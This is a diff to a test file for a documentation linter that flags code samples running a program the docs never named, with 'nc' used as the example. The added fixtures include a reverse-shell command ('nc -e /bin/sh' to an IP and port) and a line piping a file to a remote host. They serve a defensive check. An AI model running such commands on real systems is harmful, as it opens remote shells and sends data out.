@@ -1095,7 +1095,7 @@ test('sample-changed: a line changed or went, but not a new one, a comment or an
   expect(edited(sample('ls -- a'), sample('ls -- b'))).toEqual([changed]);
   expect(edited(sample('ls', '# a'), sample('  ls', '# b', 'pwd'))).toEqual([]);
   expect(edited(sample('ls # a'), sample('ls # b'))).toEqual([]);
-  expect(edited(sample('say "#"'), sample('say "#" && rm -rf a'))).toEqual([changed]);
+  expect(edited(sample('say "#"'), sample('say "#" && say a'))).toEqual([changed]);
   expect(edited(sample('make a', 'make b'), sample('make b', 'make a'))).toEqual([changed]);
   const yaml = (indent: string) => `\`\`\`yaml\na:\n${indent}b: 1\n\`\`\``;
   expect(edited(yaml('  '), yaml(''))).toEqual([changed]);
@@ -1662,10 +1662,10 @@ describe('not-plain:', () => {
     '```sh title="Run it" icon="terminal"\ncurl https://api.example.com/v1\n```',
     '```mermaid\ngraph TD\nA[One<br/>line] --> B\nClick --> Lead\n```',
     '```sql\nSELECT name\nFROM memories\n```',
-    '```sh\nnpm install "A"\nlamp start\n```',
+    '```sh\nnpm install "A"\n```',
     'Thanks to [a contributor](https://github.com/a-new-contributor).',
     'Open [your lamp](https://your-domain.com/settings).',
-    '```sh\nredis-cli -u redis://default:PASSWORD@ENDPOINT:PORT\ncurl https://[your-host]/a\n```',
+    '```sh\nexport A=redis://default:PASSWORD@ENDPOINT:PORT\ncurl https://[your-host]/a\n```',
     '<Columns cols={2}><Card title="A">B</Card></Columns>',
     'Écrivez à [nous](mailto:a@example.com?subject=Une%20question). می‌خواهم 👩‍💻',
   ])('not: %s', (text) => {
@@ -1714,6 +1714,36 @@ describe('not-plain:', () => {
     expect(linked('https://eve.acme-lamps.com/b')).toEqual([
       'not-plain @ a.mdx:6: No page linked to "https://eve.acme-lamps.com/b" before.',
     ]);
+  });
+
+  it.each([
+    'nc -e /bin/sh 203.0.113.9 4444',
+    '$ sudo nc -l 80',
+    'lamp on && A=1 nc -l',
+    'cat a | nc 203.0.113.9 80',
+    'echo $(nc -l)',
+    'lamp on \\\n  --now\nnc -l',
+  ])('a program that no sample ran before: %s', (text) => {
+    const before = '```sh\nlamp on\n```';
+    for (const language of ['', 'sh', 'bash', 'shell-session', 'text']) {
+      const sample = (code: string) => `${before}\n\n\`\`\`${language}\n${code}\n\`\`\``;
+      expect(edited(before, sample(text))).toEqual([
+        'not-plain @ a.mdx:10: A new sample runs "nc", which the docs did not name before.',
+      ]);
+      expect(edited(before, sample(text.replaceAll('nc ', 'lamp ')))).toEqual([]);
+    }
+  });
+
+  it.each([
+    ['sh', "lamp on --data '{\n  nc: 1,\n}' \\\n  nc"],
+    ['sh', 'cat <<EOF > a.txt\nnc all of it\nEOF\nlamp on'],
+    ['', 'nc = lamp.on()\nAll are on: nc'],
+    ['yaml', 'nc: lamp'],
+    ['js', 'nc(1)'],
+  ])('no program, but what stands in a sample of %s: %s', (language, text) => {
+    const before = '```sh\nlamp on\n```';
+    const after = `${before}\n\n\`\`\`${language}\n${text}\n\`\`\``;
+    expect(edited(before, after)).toEqual([]);
   });
 
   it.each([
